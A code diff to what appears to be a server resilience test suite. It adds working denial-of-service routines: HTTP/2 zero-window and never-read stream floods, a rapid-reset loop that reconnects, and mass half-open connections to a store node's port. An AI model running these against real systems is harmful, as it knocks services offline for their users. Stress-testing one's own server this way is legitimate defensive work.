@@ -3,7 +3,8 @@
 Each takes an address and a number of seconds, and returns how many connections or streams it made.
 All of them end their connections before they return, so what the server still has a moment later is
 what it keeps. HTTP/2 is spoken without TLS; where the server refuses that, the attack ends with the
-connection.
+connection. Ordinary requests, as many as an attack makes, have a connection each where the attack
+is about connections (`OWN_CONNECTION`), and a few connections between them otherwise.
 """
 
 from __future__ import annotations
@@ -17,6 +18,7 @@ from contextlib import asynccontextmanager
 
 import h2.config
 import h2.connection
+import h2.events
 import h2.exceptions
 import h2.settings
 
@@ -25,6 +27,9 @@ Attack = Callable[[Address, float], Awaitable[int]]
 CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(197)
 GET = b"GET /openapi.json HTTP/1.1\r\nHost: abuse\r\n\r\n"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+STREAMS = 100
+"""That a connection of HTTP/2 may have."""
+LARGEST_WINDOW = 2**31 - 1
 SETTINGS, PING, HEADERS, CONTINUATION = 4, 6, 1, 9
 
 
@@ -159,33 +164,46 @@ async def handshakes(address: Address, seconds: float) -> int:
 
 
 async def window_0(address: Address, seconds: float) -> int:
-    """HTTP/2 streams whose answers the client has no window for."""
-    async with peers(address, 1) as (peer,):
-        client = _client()
-        client.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
-        await peer.send(client.data_to_send())
-        for number in range(400):
-            _ask(client, b"/docs" if number % 2 else b"/openapi.json")
-        await peer.send(client.data_to_send())
-        await _stay(peer, client, seconds)
-        return 400
+    """HTTP/2 streams, as many as there may be, whose answers the client has no window for."""
+    async with peers(address, 8) as made:
+        clients = [_client() for _ in made]
+        for peer, client in zip(made, clients, strict=True):
+            client.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+            for number in range(STREAMS):
+                _ask(client, b"/docs" if number % 2 else b"/openapi.json")
+            await peer.send(client.data_to_send())
+        await asyncio.gather(*(_stay(*each, seconds) for each in zip(made, clients, strict=True)))
+        return len(made) * STREAMS
+
+
+async def never_read_http2(address: Address, seconds: float) -> int:
+    """HTTP/2 streams that have a window for all of their answers, on sockets that nobody reads."""
+    async with peers(address, 20, buffer_bytes=4096) as made:
+        for peer in made:
+            client = _client()
+            client.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: LARGEST_WINDOW})
+            client.increment_flow_control_window(LARGEST_WINDOW - 65_535)
+            for _ in range(STREAMS):
+                _ask(client, b"/openapi.json")
+            await peer.send(client.data_to_send())
+        await asyncio.sleep(seconds)
+        return len(made) * STREAMS
 
 
 async def rapid_reset(address: Address, seconds: float) -> int:
-    """HTTP/2 streams that are reset as soon as they are opened."""
+    """HTTP/2 streams that are reset as soon as they are opened; the next connection follows when
+    the server ends one."""
     end_s, count = time.monotonic() + seconds, 0
     while time.monotonic() < end_s:
         async with peers(address, 1) as (peer,):
-            client = _client()
-            while time.monotonic() < end_s:
-                for _ in range(100):
+            client, ended = _client(), False
+            while not ended and time.monotonic() < end_s:
+                for _ in range(STREAMS):
                     client.reset_stream(_ask(client, b"/healthz"), 8)
-                count += 100
-                if not await peer.send(client.data_to_send()):
-                    break
+                count += STREAMS
+                ended = not await peer.send(client.data_to_send())
                 if data := await peer.read(0.001):
-                    with contextlib.suppress(h2.exceptions.ProtocolError):
-                        client.receive_data(data)
+                    ended = ended or _is_end(client, data)
     return count
 
 
@@ -227,6 +245,20 @@ async def continuations(address: Address, seconds: float) -> int:
     return count
 
 
+async def unfinished_handshakes(address: Address, seconds: float) -> int:
+    """Connections to a store node's port: by turns they say nothing, begin TLS, announce a frame
+    that does not come, and send what is none."""
+    firsts = (b"", CLIENT_HELLO, b"\x10\x00\x00\x00\x01", b"GET / HTTP/1.1\r\n\r\n", bytes(8192))
+    end_s, count = time.monotonic() + seconds, 0
+    while time.monotonic() < end_s:
+        async with peers(address, 500) as made:
+            for number, peer in enumerate(made):
+                await peer.send(firsts[number % len(firsts)])
+            count += len(made)
+            await asyncio.sleep(0.2)
+    return count
+
+
 async def control_frames(address: Address, seconds: float) -> int:
     """Pings and settings, whose acknowledgements nobody takes."""
     flood = (frame(PING, 0, bytes(8)) + frame(SETTINGS, 0)) * 500
@@ -249,11 +281,18 @@ ATTACKS: dict[str, Attack] = {
     "connection churn": churn,
     "TLS handshakes": handshakes,
     "HTTP/2 window of 0": window_0,
+    "HTTP/2 answers never read": never_read_http2,
     "HTTP/2 rapid reset": rapid_reset,
     "HTTP/2 pseudo-headers": pseudo_headers,
     "HTTP/2 continuations": continuations,
     "HTTP/2 control frames": control_frames,
 }
+ON_STORE_NODES: dict[str, Attack] = {"store port: handshakes": unfinished_handshakes}
+"""Attacks on a port of a store node."""
+OWN_CONNECTION = frozenset(
+    ("slow heads", "slow bodies", "connection churn", "TLS handshakes", "HTTP/2 pseudo-headers")
+)
+"""Those whose ordinary requests have a connection each."""
 
 
 def _client() -> h2.connection.H2Connection:
@@ -268,6 +307,15 @@ def _client() -> h2.connection.H2Connection:
     )
     client.initiate_connection()
     return client
+
+
+def _is_end(client: h2.connection.H2Connection, data: bytes) -> bool:
+    """Whether the server ends the connection by that."""
+    try:
+        events = client.receive_data(data)
+    except h2.exceptions.ProtocolError:
+        return True
+    return any(isinstance(event, h2.events.ConnectionTerminated) for event in events)
 
 
 def _ask(client: h2.connection.H2Connection, path: bytes) -> int:
